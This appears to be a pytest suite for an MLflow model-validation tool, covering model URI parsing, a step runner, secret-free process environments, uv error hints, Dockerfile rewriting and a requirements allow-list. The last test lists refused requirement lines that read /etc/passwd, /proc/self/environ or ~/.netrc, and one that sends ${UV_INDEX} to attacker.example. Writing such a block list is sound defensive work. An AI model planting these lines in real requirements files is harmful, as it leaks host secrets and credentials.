"""Small pure pieces: URI parsing, the step runner, isolation, uv messages, Dockerfile edits."""

from pathlib import Path

import pytest

from mlflow_validator.checks import GATE_SO_FAR
from mlflow_validator.errors import InfrastructureError, UsageError
from mlflow_validator.isolation import install_network, install_tool_env, model_process_env
from mlflow_validator.model.fetch import parse_model_uri
from mlflow_validator.model.mlmodel import ModelFileError
from mlflow_validator.model.requirements import parse_requirements, refused_lines
from mlflow_validator.results import Outcome, Stage, Status, failed, passed
from mlflow_validator.settings import BuildNetwork, resolve_options
from mlflow_validator.settings.types import IMAGE_REFERENCE, MEMORY
from mlflow_validator.stages.docker.image import ServingDockerfile, UnexpectedDockerfile, pip_env
from mlflow_validator.steps import Step, run_steps
from mlflow_validator.uv import repair_hint, summarize_failure

UV_OUTPUT = """Using Python 3.11.7 environment at: /tmp/venv
  × No solution found when resolving dependencies:
  ╰─▶ Because there is no version of cloudpickle==99.0.0 and you require cloudpickle==99.0.0, we can
      conclude that your requirements are unsatisfiable.
"""


@pytest.mark.parametrize(
    ("uri", "fields"),
    [
        ("models:/iris/3", {"name": "iris", "version": "3"}),
        ("models:/iris@champion", {"name": "iris", "alias": "champion"}),
        ("models:/iris/latest", {"name": "iris", "version": "latest", "latest": True}),
        ("models:/iris/LATEST", {"name": "iris", "latest": True}),  # as MLflow reads it, whatever the case
        ("models:/m-0123456789abcdef0123456789abcdef", {"model_id": "m-0123456789abcdef0123456789abcdef"}),
        ("runs:/" + "a" * 32 + "/model", {"run_id": "a" * 32}),
        ("examples/iris", {"name": "iris", "local_path": Path("examples/iris")}),
    ],
)
def test_supported_uris(uri, fields):
    ref = parse_model_uri(uri)
    assert {key: getattr(ref, key) for key in fields} == fields


@pytest.mark.parametrize(
    "uri", ["s3://b/m", "models:/iris", "models:/iris/Production", "models:/m-x", "runs:/short/model"]
)
def test_unsupported_uris(uri):
    with pytest.raises(UsageError, match="models:/NAME/VERSION"):
        parse_model_uri(uri)


def test_steps_after_a_failure_are_skipped_with_the_blocker_named():
    steps = [Step("a", lambda: failed("no")), Step("b", lambda: passed()), Step("c", lambda: passed(), requires=())]
    results = list(run_steps(Stage.VENV, steps))
    assert [r.status for r in results] == [Status.FAILED, Status.SKIPPED, Status.PASSED]
    assert "'a' did not pass" in results[1].message


@pytest.mark.parametrize(("earlier", "kept"), [(Status.SKIPPED, True), (Status.WARNED, True), (Status.FAILED, False)])
def test_the_image_is_kept_only_when_no_earlier_check_failed(earlier, kept):
    keep = Step("keep-image", lambda: passed("kept", properties={"image.id": "sha256:1"}), requires=GATE_SO_FAR)
    steps = [Step("answers", lambda: passed()), Step("timing", lambda: Outcome(earlier), requires=()), keep]
    result = list(run_steps(Stage.DOCKER, steps))[-1]
    assert (result.status is Status.PASSED) is kept
    assert result.properties == ({"image.id": "sha256:1"} if kept else {})


@pytest.mark.parametrize("reference", ["mlflow-validator/model:1", "127.0.0.1:5000/validated/iris:1", "ghcr.io/a/b"])
def test_image_tags_follow_dockers_reference_grammar(reference):
    assert IMAGE_REFERENCE.parse(reference) == reference


@pytest.mark.parametrize("reference", ["Team/Model:1", "model:", "a b:1", "model:-tag"])
def test_an_image_tag_docker_would_refuse_is_refused_before_any_work(reference):
    with pytest.raises(ValueError, match="not an image reference"):
        IMAGE_REFERENCE.parse(reference)


def test_a_broken_model_file_fails_the_step_whatever_the_stage():
    def reads_python_env() -> None:
        raise ModelFileError("requirements.txt is missing")

    results = list(run_steps(Stage.VENV, [Step("install-requirements", reads_python_env)]))
    assert results[0].status is Status.FAILED
    assert results[0].message.startswith("requirements.txt is missing")


def test_an_infrastructure_error_stops_the_stage():
    def broken() -> None:
        raise InfrastructureError("engine gone", "restart it")

    results = list(run_steps(Stage.DOCKER, [Step("a", broken), Step("b", lambda: passed(), requires=())]))
    assert [r.status for r in results] == [Status.ERROR, Status.SKIPPED]
    assert results[0].message == "engine gone: restart it"


def test_model_processes_never_see_ci_secrets(tmp_path):
    ci_env = {
        "PATH": "/usr/bin",
        "LANG": "C.UTF-8",
        "MLFLOW_TRACKING_TOKEN": "s",
        "AWS_SECRET_ACCESS_KEY": "s",
        "GITHUB_TOKEN": "s",
        "CI_JOB_TOKEN": "s",
        "DATABRICKS_TOKEN": "s",
        "HOME": "/root",
    }
    env = model_process_env(ci_env, home=tmp_path, bin_dir=tmp_path / "bin", declared={})
    assert set(env) == {"PATH", "LANG", "HOME", "TMPDIR", "PYTHONDONTWRITEBYTECODE"}
    assert env["HOME"] == str(tmp_path)
    assert not {"MLFLOW_TRACKING_TOKEN", "GITHUB_TOKEN"} & set(install_tool_env(ci_env, BuildNetwork()))


def test_model_processes_get_only_the_variables_the_config_file_declares(tmp_path):
    ci_env = {"PATH": "/usr/bin", "HF_HOME": "/cache/hf", "GITHUB_TOKEN": "s"}
    config = tmp_path / "c.yaml"
    config.write_text("env:\n  pass: [HF_HOME]\n  set: {MODE: offline}\n")
    options = resolve_options({"model_uri": "m", "config": str(config)}, ci_env, tmp_path)
    env = model_process_env(ci_env, home=tmp_path, bin_dir=tmp_path / "bin", declared=options.model_env)
    assert env["HF_HOME"] == "/cache/hf"
    assert env["MODE"] == "offline"
    assert "GITHUB_TOKEN" not in env


def test_install_tools_get_the_ca_bundle_and_never_download_interpreters(tmp_path):
    env = install_tool_env({"PATH": "/bin"}, BuildNetwork(ca_bundle=tmp_path / "ca.pem", https_proxy="http://p:3128"))
    assert env["SSL_CERT_FILE"] == str(tmp_path / "ca.pem")
    assert env["HTTPS_PROXY"] == "http://p:3128"
    assert env["UV_PYTHON_DOWNLOADS"] == "never"


def test_uv_failures_are_summarized_with_the_package_and_the_repair_command():
    assert "no version of cloudpickle==99.0.0" in summarize_failure(UV_OUTPUT)
    hint = repair_hint("models:/iris/3", UV_OUTPUT)
    assert 'mlflow models update-pip-requirements -m models:/iris/3 add "cloudpickle==<a released version>"' in hint


MLFLOW_DOCKERFILE = """# Build an image that can serve mlflow models.
FROM python:3.11.7-slim
RUN apt-get -y update && apt-get install -y --no-install-recommends nginx
WORKDIR /opt/mlflow
RUN pip install mlflow==3.17.2
COPY model_dir/model /opt/ml/model
RUN python -c "from mlflow.models import container as C; C._install_pyfunc_deps('/opt/ml/model', env_manager='local');"
ENV MLFLOW_DISABLE_ENV_CREATION=True
ENTRYPOINT ["python", "-c", "from mlflow.models import container as C; C._serve('local')"]
"""


def test_mlflows_installs_are_replaced_by_the_lock_and_the_model_goes_on_the_dependency_image():
    dockerfile = ServingDockerfile.parse(MLFLOW_DOCKERFILE)
    dependencies = dockerfile.dependencies()
    assert dockerfile.base_image == "python:3.11.7-slim"
    assert "nginx" in dependencies and "--no-index --no-deps" in dependencies
    assert "RUN pip install mlflow" not in dependencies and "C._install_pyfunc_deps" not in dependencies
    model = dockerfile.model("mlflow-validator/serving-dependencies:abc").splitlines()
    assert model[:2] == ["FROM mlflow-validator/serving-dependencies:abc", "COPY model_dir/model /opt/ml/model"]
    assert model[-1].startswith("ENTRYPOINT") and not any("pip install" in line for line in model)


def test_a_dockerfile_of_another_shape_is_refused_by_name():
    with pytest.raises(UnexpectedDockerfile, match="WORKDIR /opt/mlflow"):
        ServingDockerfile.parse("FROM ubuntu\nRUN make\n")


@pytest.mark.parametrize(("written", "mib"), [(512, 512), ("512m", 512), ("2g", 2048), ("2GiB", 2048)])
def test_memory_takes_mib_or_dockers_notation(written, mib):
    assert MEMORY.parse(written) == mib


def test_pip_on_the_host_reaches_the_index_the_settings_name():
    network = BuildNetwork(index_url="https://u:p@idx/simple", extra_index_urls=("https://a/simple", "https://b/"))
    env = pip_env({}, network)
    assert env["PIP_INDEX_URL"].startswith("https://u:p")
    assert env["PIP_EXTRA_INDEX_URL"] == "https://a/simple https://b/"


def test_the_models_index_lines_join_the_settings_indexes_and_the_settings_index_url_wins():
    requirements = parse_requirements(
        "--index-url https://mirror/simple\n--extra-index-url=https://u:p@private/simple\npandas==2.2.3\n"
    )
    from_settings = BuildNetwork(index_url="https://corp/simple", extra_index_urls=("https://other/simple",))

    assert install_network(BuildNetwork(), requirements).index_url == "https://mirror/simple"
    network = install_network(from_settings, requirements)
    assert network.index_url == "https://corp/simple"
    assert network.extra_index_urls == ("https://other/simple", "https://u:p@private/simple")
    assert install_tool_env({}, network)["UV_INDEX"] == "https://other/simple https://u:p@private/simple"


def test_requirements_reach_uv_only_in_forms_that_read_nothing_outside_the_model(tmp_path):
    """An allow-list: each refused line is a way uv would read a host file, expand a credential or fetch more."""
    model = tmp_path / "model"
    (model / "extra").mkdir(parents=True)
    (model / "wheels").mkdir()
    (model / "wheels" / "own-1.0-py3-none-any.whl").write_text("")
    (model / "extra" / "more.txt").write_text("numpy==2.0 --hash=sha256:" + "a" * 64 + "\n-c ../../secrets.txt\n")
    (model / "leak").symlink_to("/proc/self/environ")
    (model / "loop.txt").write_text("-r loop.txt\n")
    accepted = [
        "pandas==2.2",
        'numpy==2.0; python_version < "3.12"',
        "-r extra/more.txt",
        "--requirement=loop.txt",
        "./wheels/own-1.0-py3-none-any.whl",
        "torch @ https://download.pytorch.org/whl/cpu/torch-2.5.0-cp311-linux_x86_64.whl",
        "--extra-index-url https://pypi.example.com/simple",
    ]
    refused = [
        "-r /proc/self/environ",
        "-r\t/etc/passwd",
        '-r "/etc/passwd"',
        "-r leak",
        "-r leak#x",
        "-r a/../../x.txt",
        "-r https://attacker.example/r.txt",
        "-r ${HOME}/.netrc",
        "foo @ https://attacker.example/${UV_INDEX}/foo.whl",
        "foo @ file:///etc/passwd",
        "foo@../x",
        "leak/x",
        "-e ./helper",
        "--find-links /home",
        "--index-url file:///srv",
        "foo @ git+file:///home/runner/repo",
    ]
    requirements = model / "requirements.txt"
    requirements.write_text("\n".join([*accepted, *refused]) + "\n")

    found = refused_lines(requirements, model.resolve())

    assert found[0] == "more.txt line 2: -c ../../secrets.txt (not a file of the model)"
    assert [line.split(": ", 1)[1].rsplit(" (", 1)[0] for line in found[1:]] == [
        text.replace("\t", "\t") for text in refused
    ]
